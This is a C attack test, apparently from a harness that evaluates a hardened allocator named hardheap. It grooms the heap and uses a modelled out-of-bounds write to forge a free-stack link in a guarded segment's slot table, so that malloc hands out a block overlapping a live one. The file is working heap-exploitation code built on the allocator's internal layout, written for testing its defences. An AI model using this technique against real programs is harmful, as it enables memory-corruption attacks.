/* slot_table_forge: a non-linear underflow from the first slot of a guarded
 * segment, past its guard page, into the segment's slot table: one forged
 * free-stack link makes malloc place a new block in a live slot.
 *
 * Bug modelled: one out-of-bounds 8-byte write s[i] = v, i about -4.7 KiB
 * (a wrong index, the bytes in between untouched), on a guarded 4000-byte
 * block s in slot 0 of its segment; i and v come from the attacker.
 * Layout facts (src/types.h at the commit in README.md): a guarded segment
 * is 4 MiB-aligned; it starts with the segment header (152 bytes), one page
 * descriptor (128), the guarded info (64), then one 456-byte slot record
 * per slot, next_free at +8; for one-page slots: 484 slots, data of slot k
 * at 225280 + 8192 k, the slot table in the 54 pages before slot 0's guard
 * page, so the records of slots 476..483 share the page right before it.
 * Steps (HARDHEAP_GUARDED_SAMPLE_RATE=1): allocate 968 blocks of 4000 bytes
 * (two segments of one-page slots; all live) and find a segment where the
 * program holds slots 0, 1 and 483; free the block of slot 483, then 256
 * malloc(5000) + free (another class) push that slot out of the quarantine:
 * it is the top of the one-page free stack. The bug writes, about 4.7 KiB
 * before s (past slot 0's guard page), the address of slot 1's record into
 * slot 483's next_free. malloc(4000) pops slot
 * 483; the next malloc(4000) pops slot 1, which is live.
 * WIN: the second malloc returns a block in the page of slot 1's live
 * block (two live blocks overlap), without a report.
 * Outcome: a real weakness: the slot table (state, next_free, block,
 * open_offset/open_size that free mprotects and purges) is writable and
 * sits one guard page before slot 0, and the free-stack links are raw
 * pointers. GWP-ASan keeps its metadata in a separate mapping and its free
 * slots as indices. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

#define SIZE 4000
#define FIRST_DATA 225280 /* offset of slot 0's data in a segment of one-page slots */
#define STRIDE 8192
#define SLOTS 484
#define RECORDS 344 /* 152 + 128 + 64 */
#define RECORD 456
#define NEXT_FREE 8

static uintptr_t base_of(const void* p) { return (uintptr_t)p & ~(SEG - 1); }
static long slot_of(const void* p) {
  uintptr_t off = ((uintptr_t)p & ~(uintptr_t)4095) - base_of(p);
  if (off < FIRST_DATA || (off - FIRST_DATA) % STRIDE != 0) return -1;
  return (long)((off - FIRST_DATA) / STRIDE);
}

int main(void) {
  start(20);
  static unsigned char* v[2 * SLOTS];
  for (int i = 0; i < 2 * SLOTS; i++) v[i] = hide(malloc(SIZE));
  unsigned char *s = NULL, *victim = NULL, *last = NULL;
  for (int i = 0; i < 2 * SLOTS && last == NULL; i++) {
    if (slot_of(v[i]) != 0) continue;
    s = v[i];
    victim = last = NULL;
    for (int j = 0; j < 2 * SLOTS; j++) {
      if (base_of(v[j]) != base_of(s)) continue;
      if (slot_of(v[j]) == 1) victim = v[j];
      if (slot_of(v[j]) == SLOTS - 1) last = v[j];
    }
    if (victim == NULL) last = NULL;
  }
  if (last == NULL) lost("no segment with slots 0, 1 and %d held (rate 1? layout changed?)", SLOTS - 1);
  uintptr_t base = base_of(s);
  note("segment %#zx: slot 0 %p, slot 1 %p (the victim), slot %d %p", (size_t)base, s, victim, SLOTS - 1, last);
  poke(victim, 0x1111111111111111u);
  free(hide(last));
  for (int i = 0; i < 256; i++) free(hide(malloc(5000)));  /* slot 483 leaves the quarantine: top of the stack */
  uintptr_t link = base + RECORDS + (uintptr_t)(SLOTS - 1) * RECORD + NEXT_FREE;
  uintptr_t forged = base + RECORDS + 1 * RECORD;
  volatile ptrdiff_t index = (ptrdiff_t)(link - (uintptr_t)s);
  note("the bug: s[%td] = %#zx (%td bytes before s)", (ptrdiff_t)index, (size_t)forged, -(ptrdiff_t)index);
  poke(s + index, forged);
  unsigned char* first = hide(malloc(SIZE));
  unsigned char* second = hide(malloc(SIZE));
  note("malloc(%d) returned %p (slot %ld), then %p (slot %ld)", SIZE, first, slot_of(first), second, slot_of(second));
  if (((uintptr_t)second & ~(uintptr_t)4095) == ((uintptr_t)victim & ~(uintptr_t)4095)) {
    unsigned char* both = second > victim ? second : victim; /* in both blocks: each covers all but 96 bytes */
    int clobbered = peek(victim) != 0x1111111111111111u;    /* placing the new block filled its slack */
    poke(both, 0x4242424242424242u);
    win("malloc(%d) returned %p, in the page of the live block %p (slot 1): the blocks overlap%s", SIZE, second,
        victim, clobbered ? "; placing it overwrote the live block's first bytes" : "");
  }
  lost("the forged link was not followed");
}
